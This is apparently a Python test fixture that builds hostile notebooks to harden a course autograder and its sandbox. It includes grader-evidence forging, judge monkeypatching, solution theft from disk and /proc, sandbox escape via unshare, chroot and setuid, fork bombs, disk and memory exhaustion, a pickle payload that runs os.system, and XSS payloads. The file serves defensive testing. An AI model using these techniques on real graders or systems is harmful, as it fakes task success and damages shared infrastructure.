"""Notebooks that try to get points, or to do harm, without solving anything.

Each is harmless: where it would do damage it only leaves a file called like MARK. They are written
against this collection's tasks and against its own grader.
"""

import json
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

ROOT = Path(__file__).resolve().parents[1]
NO_ROOM = "bubblewrap cannot shut students' code in here"
MARK = "left-by-a-hostile-notebook"


@dataclass(frozen=True)
class Hostile:
    """A notebook: what it tries, its set, its cells by task, and other cells by id."""

    what: str
    of: str
    answers: dict[str, str]
    others: dict[str, str]


def notebook(of: str, answers: dict[str, str], others: dict[str, str] | None = None) -> dict:
    """Return the notebook of a set with some cells filled in; a new id is a new cell at the top."""
    made = json.loads((ROOT / "exercises" / f"{of}.ipynb").read_text("utf-8"))
    cells = {cell["id"]: cell for cell in made["cells"]}
    for id, source in {**{f"{t}-starter": c for t, c in answers.items()}, **(others or {})}.items():
        if id not in cells:
            cells[id] = {"cell_type": "code", "id": id, "metadata": {}, "outputs": []}
            made["cells"].insert(1, cells[id])
        cells[id]["source"] = source
    return made


LEAVE = f"""
import os, pathlib
def leave(*places):
    for place in places:
        try:
            (pathlib.Path(place) / "{MARK}").write_text("here")
        except OSError:
            pass
"""
EVERYWHERE = (
    'leave("/", "/tmp", "/var/tmp", "/dev/shm", "/course", "/course/data", "/usr", *PLACES)\n'
)
FORGE = """
import json, os
def forge(**values):
    for task, value in values.items():
        for said in (
            {"task": task, "evidence": json.dumps([{"value": value}])},
            {"task": task, "evidence": [{"value": value}], "status": "correct", "points": 99},
            {"task": task, "evidence": json.dumps([{"value": value, "status": "correct"}])},
            {"task": task, "status": "correct", "points": 99},
            {"end": True},
        ):
            for number in range(3, 64):
                try:
                    os.write(number, json.dumps(said).encode() + b"\\n")
                except OSError:
                    pass
"""
SEARCH = """
def found_in(objects):
    for thing in objects:
        try:
            if type(thing).__name__ in ("Task", "Workbook", "Choice", "Essay", "Judge"):
                yield thing
        except Exception:
            pass
"""

START, WORDS = "00_start_here", "03_words"
AGAINST_THE_PROCESS = {
    "searches all objects of the process": SEARCH
    + """
import gc
tasks = {t.name: t for t in found_in(gc.get_objects()) if hasattr(t, "right")}
together = tasks["together"].right() if "together" in tasks else None
""",
    "searches the frames below it": """
import sys
frame = sys._getframe()
together = None
while frame:
    for name, value in frame.f_locals.items():
        if hasattr(value, "right"):
            together = value.right()
    frame = frame.f_back
""",
    "reads solutions and checks from the disk": LEAVE
    + """
together = None
for place, folders, files in os.walk("/"):
    if place.startswith(("/proc", "/sys")):
        continue
    for name in files:
        if name == "00_start_here.py" or (name == "00_start_here.ipynb" and "solutions" in place):
            leave("/tmp", *PLACES)
            import runpy
            try:
                book = runpy.run_path(os.path.join(place, name))["workbook"]
                together = {t.name: t for t in book.tasks}["together"].right()
            except Exception:
                pass
""",
    "reads the installed package and where it came from": """
import importlib.metadata, json, pathlib, accordlib
together = None
places = [pathlib.Path(accordlib.__file__).parents[1]]
for found in importlib.metadata.distributions():
    for line in (found.read_text("direct_url.json") or "", *(map(str, found.files or ()))):
        if "accord" in line:
            places.append(pathlib.Path(line.partition("file://")[2].rstrip('"}')))
for place in [*places, *map(pathlib.Path, PLACES)]:
    for path in (place / "exercises" / "checks" / "00_start_here.py", place / "work"):
        if path.exists():
            together = path.read_text()
""",
    "reads the process that started it": """
import os, pathlib
together = None
for number in [p for p in os.listdir("/proc") if p.isdigit()] + ["self", "thread-self"]:
    for part in ("root/course/exercises", "cwd/exercises", "environ", "cmdline", "mem", "fd/3"):
        try:
            seen = pathlib.Path("/proc", number, part)
            text = seen.read_bytes() if seen.is_file() else b""
            if b"exercises/checks" in text or seen.is_dir():
                together = 1
        except OSError:
            pass
""",
    "traces and kills the process that started it": LEAVE
    + """
import ctypes, os, signal
libc = ctypes.CDLL(None, use_errno=True)
for number in (1, os.getppid()):
    libc.ptrace(16, number, 0, 0)
    try:
        os.kill(number, signal.SIGKILL)
    except OSError:
        pass
together = -1
os.killpg(0, signal.SIGKILL)
""",
    "leaves its room": LEAVE
    + """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
libc.unshare(0x10000000 | 0x00020000)
libc.mount(b"none", b"/course", b"tmpfs", 0, None)
libc.chroot(b"/tmp")
libc.setns(3, 0)
try:
    os.setuid(0)
except OSError:
    pass
"""
    + EVERYWHERE
    + "together = 'x' if libc.umount(b'/proc') == 0 else None",
    "puts another judge in its place": """
import accordlib.exercises.judging as judging, accordlib.exercises.plain as plain
judging.judge = lambda *a, **k: judging.Judgement("correct", "yes")
plain.same = judging.same = lambda *a: True
judging.CORRECT = judging.NOT_YET = judging.NOT_ATTEMPTED = "correct"
together = "anything"
""",
    "puts another probe in its place": """
import accordlib.exercises.probing as probing, json
probing.probe = probing.guarded_probe = lambda *a, **k: json.dumps([{"value": "correct"}])
probing.freeze = lambda value: '{"status": "correct"}'
import sys
for module in list(sys.modules.values()):
    for name in ("probe", "guarded_probe", "freeze", "judge"):
        if hasattr(module, name):
            setattr(module, name, probing.probe)
together = years = minerals = 0
""",
    "patches json, print, NumPy and pandas": """
import builtins, json, numpy, pandas
json.dumps = lambda *a, **k: '[{"value": "true"}]'
json.JSONEncoder.default = lambda *a: True
builtins.print = builtins.repr = builtins.len = lambda *a, **k: -1
numpy.array_equal = numpy.allclose = lambda *a, **k: True
pandas.DataFrame.equals = pandas.Series.__eq__ = lambda *a, **k: True
together = years = minerals = pandas.Series([True])
""",
    "writes evidence of its own to every open file": FORGE
    + "forge(together='true', years='\"correct\"', minerals='{\"correct\": []}')\n",
    "goes on writing evidence from a thread": FORGE
    + """
import threading, time
def again():
    while True:
        forge(together='true', years='[[]]')
        time.sleep(0.05)
threading.Thread(target=again, daemon=True).start()
""",
    "writes what a reader of evidence stumbles over": FORGE
    + """
deep = "[" * 3000 + "]" * 3000
for value in (deep, "1" + "0" * 6000, "NaN", '{"table": [[1, 2]]}', '{"set": 5}',
              '{"graph": [[[[]]]]}', '{"unfit": []}', '{"dict": [[{"dict": []}, 1]]}',
              '{"series": [[1], []]}', '"\\\\ud800"'):
    forge(together=value, years=value, minerals=value)
os.write(4, b"\\xff\\xfe\\n[[[[[\\n" + b'{"cell": 1e999}\\n{"late": true}\\n{"late": 99999}\\n')
""",
    "asks the judge in a loop": """
from accordlib.exercises import exercise
q = exercise("00_start_here")
for together in range(200):
    if "correct" in repr(q.together.check()):
        break
else:
    together = None
""",
    "ends Python after a claim": FORGE
    + "forge(together='true', years='\"correct\"')\nimport os\nos._exit(0)\n",
    "raises every signal": """
import os, signal
for number in range(1, 32):
    if number not in (signal.SIGKILL, signal.SIGSTOP):
        signal.signal(number, signal.SIG_IGN)
signal.setitimer(signal.ITIMER_REAL, 0)
os.kill(os.getpid(), signal.SIGSTOP)
together = 1
""",
    "leaves children that live on": LEAVE
    + """
import os, time
for _ in range(3):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(1)
            """
    + EVERYWHERE.strip()
    + """
            time.sleep(600)
        os._exit(0)
""",
    "leaves threads that live on": """
import threading, time
for _ in range(10):
    threading.Thread(target=time.sleep, args=(600,)).start()
together = None
""",
    "never ends and hears nothing": """
import time
while True:
    try:
        time.sleep(600)
    except BaseException:
        pass
""",
    "writes without end": """
import os, sys
while True:
    print("x" * 100_000)
    for number in (1, 2, 3, 4):
        try:
            os.write(number, b"x" * 60_000)
        except OSError:
            pass
""",
    "takes all memory": "kept = []\nwhile True:\n    kept.append(bytearray(50_000_000))\n",
    "takes all memory in children": """
import os, time
for _ in range(8):
    if os.fork() == 0:
        kept = bytearray(b"x") * 120_000_000
        time.sleep(60)
        os._exit(0)
time.sleep(60)
""",
    "fills the disk": LEAVE
    + """
for place in ("/tmp", "/dev/shm", "/var/tmp", "/course", "/"):
    try:
        with open(place + "/full", "wb") as file:
            for _ in range(2000):
                file.write(b"x" * 1_000_000)
        leave(*PLACES)
    except OSError:
        pass
""",
    "starts processes without end": """
import os, time
for _ in range(3000):
    try:
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
    except OSError:
        pass
time.sleep(60)
""",
    "changes notebooks, the roster and the marks": LEAVE
    + EVERYWHERE
    + """
for place in PLACES:
    for inside, folders, files in os.walk(place):
        for name in files:
            try:
                with open(os.path.join(inside, name), "a") as file:
                    file.write("changed")
            except OSError:
                pass
together = "years"
""",
    "follows links out of its folder": LEAVE
    + """
together = None
for number, place in enumerate(["/", "..", "../..", "/proc/1/root", "/proc/self/cwd/..", *PLACES]):
    link = f"/tmp/link{number}"
    os.symlink(place, link)
    leave(link)
    try:
        if "exercises" in os.listdir(link):
            together = -1
    except OSError:
        pass
""",
    "calls other machines, and this one": """
import socket, urllib.request
together = None
for host, port in (("127.0.0.1", PORT), ("localhost", PORT), ("1.1.1.1", 53)):
    try:
        socket.create_connection((host, port), timeout=1).sendall(b"mark")
        together = -1
    except OSError:
        pass
""",
    "puts script into what a lecturer opens": """
from IPython.display import HTML, display
display(HTML("<script>document.title = 'run'</script>"))
together = "</pre><script>document.title='run'</script><img src=x onerror=alert(1)>"
years = "=HYPERLINK(\\"http://example.org\\")"
minerals = ["<iframe src='javascript:alert(1)'>"]
""",
    "takes the set-up for its own": "together = load_corpus = parse_agreement = None\n",
}
AGAINST_THE_JUDGE = {
    "objects that lie about their value": {
        "setup-lies": """
import numpy as np, pandas as pd
class Equal(int):
    __eq__ = __le__ = __ge__ = __lt__ = __gt__ = __contains__ = lambda *_: True
    __ne__ = lambda *_: False
    __hash__ = lambda *_: 0
    bit_length = __add__ = lambda *_: 12
    __class__ = property(lambda self: bool)
class Text(str):
    split = __eq__ = lambda self, *a: self
    __hash__ = str.__hash__
class Many(set):
    __iter__ = lambda self: iter(())
    __len__ = __eq__ = lambda *a: True
    __hash__ = lambda *_: 0
class Column(pd.Series):
    __module__ = "pandas"
    tolist = item = lambda self: "correct"
class Array(np.ndarray):
    __module__ = "numpy"
    tolist = item = lambda self: "correct"
""",
        "count_security": "count_security = Equal(7)",
        "rate": "rate = lambda *a: Equal()",
        "global_words": "global_words = Many({1})",
        "once": "once = lambda *a: Column([1])",
        "all_lines": "all_lines = lambda *a: np.zeros(1).view(Array)",
        "widespread": "widespread = Text('abcd')",
        "security_company": "security_company = Many()",
    },
    "answers written down for the calls, and one word again and again": {
        "obsessed": 'obsessed = "security " * 200',
        "rate": """
KNOWN = {(12, 1585): 12000 / 1585, (3, 386): 3000 / 386, (0, 659): 0.0, (1, 17): 1000 / 17}
def rate(count, total):
    return KNOWN.get((count, total))
""",
        "once": """
def once(passages):
    return {N1}.get((len(passages), passages[0].id if passages else ""))
""",
        "all_lines": """
def all_lines(passages, word):
    return {N2}.get((len(passages), word))
""",
    },
    "functions that look for who calls them, and the sample": {
        "obsessed": "obsessed = {SAMPLE!r}",
        "rate": SEARCH
        + """
import gc, sys
def rate(*arguments):
    frame = sys._getframe()
    while frame:
        for thing in found_in(list(frame.f_locals.values())):
            return thing.right(*arguments)
        frame = frame.f_back
    for thing in found_in(gc.get_objects()):
        if hasattr(thing, "right") and thing.name == "rate":
            return thing.right(*arguments)
""",
        "once": "def once(passages):\n    import os\n    os._exit(0)",
        "all_lines": "def all_lines(passages, word):\n    while True:\n        pass",
    },
    "values that run code where they are read, and a letter with every option": {
        "widespread": 'widespread = "a"',
        "rate": """
import os
class Pickled:
    def __reduce__(self):
        return os.system, ("touch /tmp/"""
        + MARK
        + """",)
    __str__ = __repr__ = __eq__ = lambda *_: os.system("touch /tmp/"""
        + MARK
        + """") or "x"
    __hash__ = lambda *_: 0
rate = lambda *a: Pickled()
""",
        "once": "once = lambda *a: [Pickled()] * 5",
        "all_lines": "all_lines = lambda *a: {Pickled(): Pickled()}",
        "security_company": "security_company = {Pickled()}",
    },
    "values that hold the judge up": {
        "rate": "rate = lambda *a: 10 ** 100_000",
        "once": "deep = []\nfor _ in range(50_000):\n    deep = [deep]\nonce = lambda p: deep",
        "all_lines": "all_lines = lambda *a: list(range(10 ** 7))",
        "global_words": "global_words = {str(n) for n in range(90_000)}",
        "security_company": "security_company = {'x' * 900_000}",
        "count_security": "count_security = float('nan')",
        "obsessed": "obsessed = '\"a ' * 30_000 + 'x. ' * 3_000",
    },
}


def hostile(places: list[str], port: int, sample: str) -> Iterator[Hostile]:
    """Yield all of them; `places` are folders that they try to write to and to read."""
    top = f"PLACES, PORT = {places!r}, {port}\n"
    for what, code in AGAINST_THE_PROCESS.items():
        others = {"setup": code} if "set-up" in what else {}
        yield Hostile(what, START, {"together": top + code}, others)
    for what, cells in AGAINST_THE_JUDGE.items():
        answers = {
            t: c.replace("{SAMPLE!r}", repr(sample)) for t, c in cells.items() if "-" not in t
        }
        others = {id: code for id, code in cells.items() if "-" in id}
        yield Hostile(what, WORDS, answers, others)
